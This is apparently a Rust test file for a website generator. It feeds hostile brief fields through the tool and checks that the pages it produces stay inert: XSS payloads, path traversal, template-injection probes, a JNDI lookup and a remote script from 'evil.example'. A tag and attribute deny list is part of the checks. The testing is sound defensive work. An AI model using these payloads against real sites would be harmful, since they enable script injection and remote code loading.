//! Briefs of people who mean harm: what they wrote comes out as text, in the folder that was named.

use std::fs;
use std::path::Path;

use serde_json::Value;

use super::{Bench, contents};
use crate::hostile::{HOSTILE, TURNING};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_brief_comes_out_as_harmless_text() {
    let bench = Bench::new();
    let brief = r#"
        name = "../../etc/passwd <script>alert(1)</script>"
        description = "{{7*7}} ${7*7} <%= 7*7 %>"
        [brief]
        business_name = "<img src=x onerror=alert(1)> & ../..\\..\\x"
        summary = "</style><script>alert(document.cookie)</script> [click](javascript:alert(1)) {{constructor}} <!--"
        business_type = "../../../../tmp/pwned \"><svg onload=alert(1)>"
        objectives = ["<iframe src='javascript:alert(1)'>", "[sell](data:text/html,<script>alert(1)</script>)"]
        facts = [
          "Visit javascript:alert(1) or JaVaScRiPt:alert(2)",
          "<b onmouseover=alert(1)>Open</b> Monday to Friday 9:00 to 17:00",
          "\"><script src=//evil.example/x.js></script> costs £5.00",
          "Phone +44 131 555 0101\r\n<script>",
          "hello@<script>.example",
          "${jndi:ldap://evil.example/a} ]]> --> {% raw %}",
        ]
    "#;
    let file = bench.file("brief.toml", brief);
    let run = bench.run(&[&file, "--out", "site"]).await;
    assert_eq!(run.code, Some(0), "{}", run.err);
    let written = contents(&bench.path("site"));
    let site: Value = serde_json::from_str(&written["site.json"]).unwrap();
    assert_eq!(
        site["name"], "../../etc/passwd <script>alert(1)</script>",
        "text stays as it is where it is only data"
    );
    for name in written.keys() {
        assert!(
            name.bytes()
                .all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || b"-.".contains(&byte)),
            "{name}"
        );
    }
    for (name, document) in written.iter().filter(|(name, _)| name.ends_with(".html")) {
        check_document(name, document);
    }
    // Nothing was written anywhere else.
    let mut left: Vec<String> = contents_names(bench.folder.path());
    left.sort();
    assert_eq!(left, ["brief.toml", "site", "tmp"]);
    bench.check_tidy();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_hostile_text_stays_text_in_the_files() {
    for (at, text) in HOSTILE.iter().enumerate() {
        let bench = Bench::new();
        let quoted = Value::String((*text).to_string());
        let brief = format!(
            "name = {quoted}\n[brief]\nbusiness_name = {quoted}\nsummary = {quoted}\nbusiness_type = {quoted}\nobjectives = [{quoted}]\nfacts = [{quoted}]\n"
        );
        let file = bench.file("brief.toml", &brief);
        let run = bench.run(&[&file, "--out", "site", "--max-pages", "2"]).await;
        assert_eq!(run.code, Some(0), "{at} {text}: {}", run.err);
        for (name, document) in contents(&bench.path("site")) {
            if name.ends_with(".html") {
                check_document(text, &document);
                continue;
            }
            let site: Value = serde_json::from_str(&document).unwrap();
            let pages = site["pages"].to_string() + &site["structure"].to_string();
            assert!(!pages.contains(TURNING), "{text}: {pages}");
        }
        bench.check_tidy();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn characters_that_turn_text_are_refused_with_their_place() {
    let bench = Bench::new();
    for character in TURNING {
        let brief =
            format!("name = \"A\"\n[brief]\nbusiness_name = \"live{character}evil\"\nsummary = \"A bakery.\"\n");
        let file = bench.file("brief.toml", &brief);
        let run = bench.run(&[&file, "--out", "site"]).await;
        assert_eq!(run.code, Some(2), "{}", run.err);
        let said = format!(
            "line 3, column 17: Remove the invisible control character U+{:04X}.",
            character as u32
        );
        assert!(run.err.contains(&said), "{}", run.err);
        assert!(!bench.path("site").exists());
    }
    bench.check_tidy();
}

/// A page that runs nothing, loads nothing and sends nothing, whatever its brief says.
pub fn check_document(what: &str, document: &str) {
    assert!(!document.contains(TURNING), "{what}: a character that turns text");
    for tag in tags(document) {
        let lower = tag.to_lowercase();
        let element = lower.trim_start_matches('/').split([' ', '>', '/']).next().unwrap();
        assert!(
            !["script", "iframe", "object", "embed", "base", "form"].contains(&element),
            "{what}: <{tag}"
        );
        let attributes = lower.split_once(' ').map_or("", |(_, rest)| rest);
        assert!(!outside_quotes(attributes).contains(" on"), "{what}: <{tag}");
        for bad in [
            "href=\"javascript:",
            "src=\"javascript:",
            "href=\"data:text",
            "src=\"x\"",
            "href=\"vbscript:",
        ] {
            assert!(!lower.contains(bad), "{what}: <{tag}");
        }
    }
}

fn contents_names(folder: &Path) -> Vec<String> {
    fs::read_dir(folder)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect()
}

/// What stands between `<` and `>`; quotes may hold either.
fn tags(document: &str) -> Vec<String> {
    let mut tags = Vec::new();
    let mut rest = document;
    while let Some(open) = rest.find('<') {
        rest = &rest[open + 1..];
        let mut is_quoted = false;
        let end = rest.find(|c: char| {
            is_quoted ^= c == '"';
            c == '>' && !is_quoted
        });
        let end = end.expect("every tag ends");
        tags.push(rest[..end].to_string());
        rest = &rest[end..];
    }
    tags
}

/// An element's attributes without their values, a space before each.
fn outside_quotes(attributes: &str) -> String {
    let names: Vec<&str> = attributes.split('"').step_by(2).collect();
    format!(" {}", names.join(""))
}
